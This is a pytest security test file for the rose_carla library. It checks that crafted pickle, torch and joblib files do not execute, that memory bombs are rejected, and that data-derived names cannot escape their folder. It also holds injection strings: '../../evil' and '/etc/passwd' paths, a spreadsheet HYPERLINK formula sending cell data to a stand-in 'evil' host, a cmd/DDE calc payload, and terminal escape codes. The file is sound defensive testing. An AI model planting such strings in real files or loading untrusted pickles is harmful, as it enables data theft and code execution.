"""Hostile files: nothing in them is executed, uses more memory than the file, or leaves its folder."""

from __future__ import annotations

import csv
import io
import json
import pickle
import re
import sys
import tracemalloc
from pathlib import Path
from unittest import mock

import joblib
import numpy as np
import pandas as pd
import pytest
import torch
from rose_carla import RoseOne, datasets, models
from bad_files import BOMBS, ODD_ARRAYS, payloads
from cli_examples import changed, folder, run  # noqa: F401 - fixtures
from rose_carla._lib.files import FileFormatError, load_arrays, save_arrays
from rose_carla._lib.text import csv_safe, csv_safe_frame
from rose_carla.bench import Judgement, Recourse, Setting, Store
from rose_carla.bench.results import to_csv
from rose_carla.cli.console import format_columns
from rose_carla.cli.recourse import write_csv
from rose_carla.errors import PlanError
from rose_carla.rose import policy_file as policies

TINY = {"ppo": {"n_updates": 1, "n_envs": 8, "n_steps": 4, "hidden": 4}, "search": False, "n_check": 20}
CELL = Judgement(Recourse(Setting("compas", "linear", people=4), "GrSp"), ("Proximity",))


@pytest.fixture
def mark(tmp_path):
    """What a payload would touch."""
    return tmp_path / "ran"


@pytest.fixture(scope="module")
def policy(compas_linear, tmp_path_factory):
    """A saved policy."""
    path = tmp_path_factory.mktemp("policy") / "policy.safetensors"
    RoseOne(compas_linear, TINY).save(path)
    return path


# --- nothing is run


@pytest.mark.parametrize("name", payloads(Path("ran")))
def test_payloads_are_not_executed(name, mark, compas_linear, tmp_path, monkeypatch):
    content = payloads(mark)[name]
    path = tmp_path / "policy.safetensors"
    path.write_bytes(content)
    with pytest.raises(PlanError, match=r"The policy cannot be loaded: .* is damaged or not a rose-carla file"):
        RoseOne.load(path, compas_linear)
    monkeypatch.setenv("ROSE_CARLA_CACHE", str(tmp_path / "cache"))
    expected = models.train(compas_linear.data, "linear", settings=models.TrainingSettings((), 0.1, 512, 1))
    (entry,) = (tmp_path / "cache").rglob("*.safetensors")
    entry.write_bytes(content)
    with pytest.warns(UserWarning, match="Training the classifier again"):
        again = models.train(compas_linear.data, "linear", settings=models.TrainingSettings((), 0.1, 512, 1))
    rows = compas_linear.data.df.head(50)
    np.testing.assert_array_equal(again.predict_proba(rows), expected.predict_proba(rows))
    store = Store(tmp_path / "cells")
    store.path(CELL).parent.mkdir()
    store.path(CELL).write_bytes(content)
    with pytest.warns(UserWarning, match="Computing"):
        assert store.find(CELL) is None
    assert not mark.exists()


def test_payloads_would_be_executed_by_unpickling(tmp_path):
    """Otherwise the tests above would prove nothing."""
    careless = {
        "pickle": lambda file: pickle.load(file),
        "array of objects": lambda file: np.load(file, allow_pickle=True),
        "archive of objects": lambda file: np.load(file, allow_pickle=True)["header"],
        "one object in an archive": lambda file: np.load(file, allow_pickle=True)["about"],
        "torch": lambda file: torch.load(file, weights_only=False),
        "joblib": lambda file: joblib.load(file),
    }
    for name, load in careless.items():
        mark = tmp_path / name
        load(io.BytesIO(payloads(mark)[name]))
        assert mark.exists()


@pytest.mark.parametrize("name", BOMBS)
def test_small_files_that_claim_much_memory_are_rejected(name, tmp_path):
    path = tmp_path / "bomb.safetensors"
    path.write_bytes(BOMBS[name]())
    tracemalloc.start()
    with pytest.raises(FileFormatError, match="is damaged or not a rose-carla file"):
        load_arrays(path)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 8e6 + 3 * path.stat().st_size


def test_folders_devices_and_missing_files_are_rejected(tmp_path):
    for path in (tmp_path, tmp_path / "missing", Path("/dev/zero")):
        with pytest.raises(FileFormatError, match="not a regular file"):
            load_arrays(path)


# --- a policy with a valid checksum and something else in it


ODD = {
    "no method": lambda known: known.pop("method"),
    "method is a list": lambda known: known.update(method=["ROSE-one"]),
    "no settings": lambda known: known.pop("settings"),
    "settings are text": lambda known: known.update(settings="all"),
    "settings are missing": lambda known: known["settings"].pop("tau"),
    "an unknown setting": lambda known: known["settings"].update(run="rm"),
    "a setting out of range": lambda known: known["settings"].update(tau=7),
    "a setting of another kind": lambda known: known["settings"].update(ppo=[1]),
    "a huge network": lambda known: known["settings"]["ppo"].update(hidden=2**40),
    "slope is text": lambda known: known.update(slope="steep"),
    "slope is nothing": lambda known: known.update(slope=None),
    "slope is NaN": lambda known: known.update(slope=float("nan")),
    "slope is infinite": lambda known: known.update(slope=float("inf")),
    "slope is negative": lambda known: known.update(slope=-5),
    "slope is beyond floats": lambda known: known.update(slope=10**400),
    "features are a number": lambda known: known.update(features=5),
    "features are nested": lambda known: known.update(features=[["age"]]),
    "no log": lambda known: known.pop("log"),
    "log is text": lambda known: known.update(log="long"),
    "rows of the log are short": lambda known: known.update(log=[[1.0]]),
    "rows of the log are empty": lambda known: known.update(log=[[]]),
    "steps are infinite": lambda known: known.update(log=[[float("inf")] * 12]),
}


@pytest.mark.parametrize("odd", ODD)
def test_policies_with_valid_checksum_and_odd_metadata_are_rejected(odd, policy, compas_linear, tmp_path):
    arrays, known = load_arrays(policy)
    ODD[odd](known)
    path = tmp_path / "policy.safetensors"
    save_arrays(path, arrays, known)
    with pytest.raises(PlanError) as rejected:
        RoseOne.load(path, compas_linear)
    assert len(str(rejected.value)) < 800


def test_network_larger_than_the_weights_is_not_allocated(policy, compas_linear, tmp_path):
    arrays, known = load_arrays(policy)
    known["settings"]["ppo"]["hidden"] = 3000
    path = tmp_path / "policy.safetensors"
    save_arrays(path, arrays, known)
    with (
        mock.patch.object(policies, "ActorCritic", side_effect=AssertionError("the network was made")),
        pytest.raises(PlanError, match="too few for 3,000 hidden units"),
    ):
        RoseOne.load(path, compas_linear)


@pytest.mark.parametrize("odd", ODD_ARRAYS)
def test_policies_with_valid_checksum_and_odd_arrays_are_rejected(odd, policy, compas_linear, tmp_path):
    arrays, known = load_arrays(policy)
    name = next(name for name in arrays if name.startswith("weights."))
    arrays |= ODD_ARRAYS[odd](name, arrays[name], arrays)
    path = tmp_path / "policy.safetensors"
    save_arrays(path, {name: array for name, array in arrays.items() if array is not None}, known)
    with pytest.raises(PlanError, match=r"cannot be loaded: .* is damaged"):
        RoseOne.load(path, compas_linear)


# --- nothing leaves its folder


EVIL = "../../evil\\..\\x"


def test_names_from_data_lead_to_no_file_outside_the_folder(run, folder, tmp_path, monkeypatch):  # noqa: F811
    monkeypatch.setenv("ROSE_CARLA_CACHE", str(tmp_path / "cache"))
    frame = pd.read_csv(folder / "loans.csv").rename(columns={"income": EVIL, "home": "/etc/passwd"})
    data = datasets.from_frame(
        frame.replace({"rent": EVIL, "own": "/tmp/own"}), "loan", name=EVIL, favourable="granted", immutables=["age"]
    )
    method = RoseOne(models.train(data, "linear"), TINY)
    (tmp_path / "policies").mkdir()
    method.save(tmp_path / "policies" / "policy.safetensors")
    outside = {path for path in tmp_path.parent.rglob("*") if tmp_path not in path.parents and path != tmp_path}
    assert not {path for path in outside if "evil" in path.name}
    for path in tmp_path.rglob("*"):
        assert re.fullmatch(r"[\w.-]+", path.name)

    def change(people):
        people["name"] = [f"{EVIL}{i}" for i in range(len(people))]

    before = {*folder.rglob("*"), *folder.parent.iterdir()}
    done = run("recourse", changed(folder, "evil.csv", change), "--policy", "policy", "--id", "name", "--out", "p.csv")
    assert done.code == 0
    after = {*folder.rglob("*"), *folder.parent.iterdir()}
    assert after - before == {folder / "evil.csv", folder / "p.csv"}
    for name in ("evil.csv", "p.csv"):
        (folder / name).unlink()


# --- nothing is a formula in a spreadsheet, or a command to a terminal

FORMULAS = [
    '=HYPERLINK("//evil/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", '"=1"', "＝1+1",
    "a;=1", "a\n=1", "a\t@x", "-", "\0=1",
]  # fmt: skip
#: Those that Python's csv can write and read.
WRITABLE = [formula for formula in FORMULAS if "\0" not in formula or sys.version_info >= (3, 11)]


def formulas(text):
    """Cells that a spreadsheet would run, whatever its locale separates cells by."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    cells += [part.split(",")[0] for part in re.split(r"[;\t|\r\n]", text)]
    bare = [cell.strip('\0" \t') for cell in cells]
    return [cell for cell in bare if re.match(r"[=+\-@＝＋－＠]", cell) and not is_number(cell)]


def is_number(cell):
    try:
        return float(cell) is not None
    except ValueError:
        return False


def test_the_check_finds_formulas():
    for formula in WRITABLE:
        out = io.StringIO()
        csv.writer(out).writerow(["a", formula])
        assert formulas(out.getvalue()), formula


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_become_text_and_everything_else_stays(formula):
    out = io.StringIO()
    csv.writer(out).writerow(["a", csv_safe(formula), csv_safe(f"x{formula}")])
    assert not formulas(out.getvalue())
    assert csv_safe(formula).replace("'", "") == formula.replace("'", "").replace("\0", "")
    assert csv_safe(csv_safe(formula)) == csv_safe(formula)


@pytest.mark.parametrize("cell", ["-1.5", "+3", "1e-7", "-.5", "", "a-b", "a=b", "x, =1", 3, -2.5, None, True, "−5"])
def test_numbers_and_plain_text_stay_as_they_are(cell):
    assert csv_safe(cell) is cell or csv_safe(cell) == cell


def test_tables_hold_no_formulas():
    frame = pd.DataFrame({"=Method": ["=1+1", "GrSp"], "Mean": [-1.5, 2.0], "kind": pd.Categorical(["@x", "y"])})
    assert not formulas(to_csv(frame))
    assert csv_safe_frame(frame)["Mean"].tolist() == [-1.5, 2.0]
    assert list(frame) == ["=Method", "Mean", "kind"]
    odd = pd.DataFrame([["=1", 2.5, "x", "@y"], ["z", -1.0, "=2", "w"]], columns=["a", "a", 3, "=b"], index=[7, 7])
    assert csv_safe_frame(odd).values.tolist() == [["'=1", 2.5, "x", "'@y"], ["z", -1.0, "'=2", "w"]]
    assert list(csv_safe_frame(odd)) == ["a", "a", 3, "'=b"]
    assert csv_safe_frame(odd).index.tolist() == [7, 7]
    assert csv_safe_frame(odd[[]]).shape == (2, 0)


def test_plans_and_judgements_of_hostile_people_hold_no_formulas(run, folder):  # noqa: F811
    def change(frame):
        frame["name"] = [WRITABLE[i % len(WRITABLE)].strip() or "-" for i in range(len(frame))]
        frame.loc[3, "income"], frame.loc[4, "home"] = "=1+1", "@SUM(A1)"

    name = changed(folder, "formulas.csv", change)
    done = run("recourse", name, "--policy", "policy", "--id", "name")
    assert done.code == 1
    assert not formulas(done.out)
    assert len([*csv.DictReader(io.StringIO(done.out))]) >= 40

    def names_only(frame):
        frame["name"] = [WRITABLE[i % len(WRITABLE)].strip() or "-" for i in range(len(frame))]

    name = changed(folder, "formulas.csv", names_only)
    words = ["--policy", "policy", "--people", name, "--id", "name", "--samples", "20", "--per-person", "judged.csv"]
    assert run("evaluate", *words, "--format", "csv").code == 0
    text = (folder / "judged.csv").read_text()
    assert not formulas(text)
    assert len(text.splitlines()) > 10
    (folder / "=1+1.csv").write_bytes((folder / name).read_bytes())
    made = ["--policy", "policy", "--people", name, "--counterfactuals", "=1+1.csv", "--samples", "20"]
    done = run("evaluate", *made, "--format", "csv")
    (folder / "=1+1.csv").unlink()
    assert "=1+1" in done.out
    assert not formulas(done.out)


def test_what_is_shown_commands_no_terminal(run, folder):  # noqa: F811
    def change(frame):
        frame["name"] = [f"\x1b[2J\x9b31m\u202e{i}" for i in range(len(frame))]
        frame.loc[3, "home"] = "\x1b]0;evil\x07"

    name = changed(folder, "terminal.csv", change)
    done = run("recourse", name, "--policy", "policy", "--id", "name", "--format", "text")
    assert "\\x1b[2J\\x9b31m\\u202e7" in done.out
    json_lines = run("recourse", name, "--policy", "policy", "--id", "name", "--format", "json").out
    assert [json.loads(line)["person"] for line in json_lines.splitlines()][7] == "\x1b[2J\x9b31m\u202e7"
    screen = type("Screen", (io.StringIO,), {"isatty": lambda self: True})()
    write_csv([("\x1b[2J", None, "\x9b")], screen, first=True)
    described = run("datasets", changed(folder, "\x1b[2J.csv", change), "--target", "loan", "--favourable", "granted")
    assert described.code == 0
    others = (run("datasets", name, "--target", "name").out, format_columns([["\x1b[2J"]]))
    for text in (done.out, done.err, json_lines, screen.getvalue(), described.out, *others):
        assert all(sign.isprintable() or sign == "\n" for sign in text)
